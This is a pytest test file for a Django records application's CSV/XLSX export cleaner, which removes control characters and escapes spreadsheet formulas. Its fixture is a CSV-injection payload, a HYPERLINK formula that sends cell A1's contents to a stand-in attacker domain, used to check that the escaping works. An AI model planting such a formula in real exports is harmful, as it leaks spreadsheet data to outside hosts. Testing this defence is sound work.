"""The one CSV/XLSX writer (common.tabular): every cell cleaned of control characters and formulas, in our own
exports (work orders, the retention report, the schedule, the plan) and in django-import-export's."""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.utils.translation import gettext_lazy
from import_export.formats.base_formats import CSV, XLSX
from openpyxl import load_workbook

from classification.exporting import export_plan
from classification.importing.apply import import_plan
from classification.importing.files import read_plan_bytes
from classification.models import Node
from common import tabular
from records.work_orders import services as work_orders
from retention.resources import RetentionRuleResource
from tests.records.factories import CaseFactory
from tests.records.work_factories import ContractorFactory, contractor_user, make_work_order, orderer
from tests.retention.factories import RuleFactory, closed_case

HYPERLINK = '=HYPERLINK("https://evil.example.org/?d="&A1,"Klicka här")'


def workbook_rows(data: bytes):
    """Every row of the first sheet as cells (value and data_type)."""
    return list(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows())


def cell_with(rows, text: str):
    return next(cell for row in rows for cell in row if isinstance(cell.value, str) and text in cell.value)


# --- The rule -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cleaned"),
    [
        ("Bytt\x1b[31m packning\x01", "Bytt[31m packning"),
        ("Rad ett\nrad två\ttabb", "Rad ett\nrad två\ttabb"),  # line breaks and tabs inside are text
        (HYPERLINK, "'" + HYPERLINK),
        ("+46 70 000 00 00", "'+46 70 000 00 00"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\x01=1+1", "'=1+1"),  # what is left after the control character is checked
        ("Vanlig text = likhet", "Vanlig text = likhet"),
        ("", ""),
        (-5, -5),  # numbers stay numbers
        (None, None),
        (datetime.date(2026, 3, 1), datetime.date(2026, 3, 1)),
    ],
)
def test_a_cell_is_cleaned(value, cleaned):
    assert tabular.clean_cell(value) == cleaned


def test_lazy_text_is_written_as_text_and_cleaning_is_undone_on_reading():
    assert tabular.clean_cell(gettext_lazy("Diarienummer")) == "Diarienummer"
    assert tabular.restore_cell("'" + HYPERLINK) == HYPERLINK
    assert tabular.restore_cell("'Apostrof först") == "'Apostrof först"
    assert tabular.restore_cell(7) == 7


def test_a_formula_comes_out_as_text_in_xlsx_and_csv():
    rows = [[HYPERLINK, 1, "ok"]]
    sheet = workbook_rows(tabular.to_bytes(tabular.XLSX, rows, ["Text", "Tal", "Annat"], sheet="Blad: [1]"))
    cell = sheet[1][0]
    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK
    assert sheet[1][1].value == 1 and sheet[0][0].font.bold
    text = tabular.to_bytes(tabular.CSV, rows, ["Text", "Tal", "Annat"]).decode("utf-8")
    assert list(csv.reader(io.StringIO(text))) == [["Text", "Tal", "Annat"], ["'" + HYPERLINK, "1", "ok"]]


def test_the_writer_takes_rows_from_a_generator_and_counts_them(tmp_path):
    target = tmp_path / "stor.xlsx"
    with open(target, "wb") as handle:
        count = tabular.write(tabular.XLSX, ([n, f"rad {n}"] for n in range(5000)), handle, ["Nr", "Text"])
    assert count == 5000
    assert sum(1 for _row in load_workbook(target, read_only=True).worksheets[0].iter_rows()) == 5001


# --- Work orders ----------------------------------------------------------------------------------


@pytest.fixture
def completed_with_control_characters(seed_plan, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    contractor = ContractorFactory()
    worker = contractor_user(contractor, username="entreprenoren")
    order = make_work_order(
        user=orderer(), contractor=contractor, status="accepterad", by=worker, subject=HYPERLINK, apartment="-12"
    )
    work_orders.complete_work_order(order, worker, action_performed="Bytt\x1b[31m packning\x01 i diskmaskinen")
    return worker


def test_control_characters_in_a_contractors_completion_no_longer_break_the_excel_report(
    client, completed_with_control_characters
):
    client.force_login(completed_with_control_characters)
    response = client.get("/admin/records/workorder/export/")
    assert response.status_code == 200
    rows = workbook_rows(b"".join(response.streaming_content))
    assert cell_with(rows, "packning").value == "Bytt[31m packning i diskmaskinen"
    subject = cell_with(rows, "HYPERLINK")
    assert subject.data_type == "s" and subject.value == "'" + HYPERLINK
    assert cell_with(rows, "-12").value == "'-12"


# --- Retention ------------------------------------------------------------------------------------


@pytest.fixture
def due_with_a_formula_title(seed_plan, on_commit):
    RuleFactory(node=seed_plan["2.9"], years=2, authority="GA 2019/3")
    with on_commit():
        closed_case("2.9.1", datetime.date(2023, 5, 2), title=HYPERLINK)


def test_a_formula_in_a_case_title_is_text_in_the_retention_reports_csv_and_xlsx(due_with_a_formula_title, tmp_path):
    out = io.StringIO()
    call_command("retention_report", "--as-of", "2026-06-30", "--format", "csv", stdout=out, stderr=io.StringIO())
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["Ärendemening"] == "'" + HYPERLINK
    target = tmp_path / "rapport.xlsx"
    call_command(
        "retention_report", "--as-of", "2026-06-30", "--format", "xlsx", "-o", str(target), stderr=io.StringIO()
    )
    cell = cell_with(workbook_rows(target.read_bytes()), "HYPERLINK")
    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK


def test_the_archivists_downloads_are_streamed_and_cleaned(client, due_with_a_formula_title, archivist):
    client.force_login(archivist)
    for wanted in ("csv", "xlsx"):
        response = client.get("/gallring/rapport/", {"as_of": "2026-06-30", "format": wanted})
        assert response.streaming and response["Cache-Control"] == "private, no-store"
        assert response["Content-Disposition"] == f'attachment; filename="gallringsrapport-2026-06-30.{wanted}"'
        data = b"".join(response.streaming_content)
        if wanted == "csv":
            [row] = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
            assert row["Ärendemening"] == "'" + HYPERLINK
        else:
            rows = workbook_rows(data)
            assert rows[0][0].value == "Gallringsrapport per 2026-06-30"
            assert cell_with(rows, "HYPERLINK").value == "'" + HYPERLINK


def test_the_schedules_import_export_files_are_cleaned_and_read_back_unchanged(seed_plan):
    RuleFactory(node=seed_plan["2.9"], years=2, authority="GA 2019/3", note="-inte före revision\x1b")
    exported = RetentionRuleResource().export()
    [row] = [list(row) for row in exported]
    assert row[-1] == "'-inte före revision"
    sheet = workbook_rows(XLSX().export_data(exported))
    assert cell_with(sheet, "revision").data_type == "s"
    assert "'-inte före revision" in CSV().export_data(exported)
    result = RetentionRuleResource().import_data(exported, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert [rule.note for rule in RetentionRuleResource().get_queryset()] == ["-inte före revision"]


# --- The case list and the plan -------------------------------------------------------------------


def test_the_admins_case_list_export_is_cleaned(admin_client, seed_plan):
    case = CaseFactory(process=seed_plan["2.9.1"], title="+46 Ring hyresgästen")
    form = admin_client.get("/admin/records/case/export/").context["form"]
    fmt = next(value for value, label in form.fields["format"].choices if str(label).lower() == "xlsx")
    fields = {name: "on" for name in form.fields if name.startswith("caseexportresource_")}
    response = admin_client.post("/admin/records/case/export/", {"format": fmt, "resource": "0", **fields})
    rows = workbook_rows(response.content)
    assert cell_with(rows, case.reference).data_type == "s"
    assert cell_with(rows, "Ring hyresgästen").value == "'+46 Ring hyresgästen"


def test_a_plan_description_that_starts_like_a_formula_survives_the_csv_and_xlsx_round_trip(seed_plan):
    Node.objects.filter(code="2.9.1").update(description="- punkt ett\n- punkt två")
    for fmt in ("csv", "xlsx"):
        data = export_plan(fmt)
        if fmt == "csv":
            assert "'- punkt ett" in data.decode("utf-8")
        report = import_plan(read_plan_bytes(data, f"plan.{fmt}"))
        assert report.changed == {}
        assert Node.objects.get(code="2.9.1").description == "- punkt ett\n- punkt två"
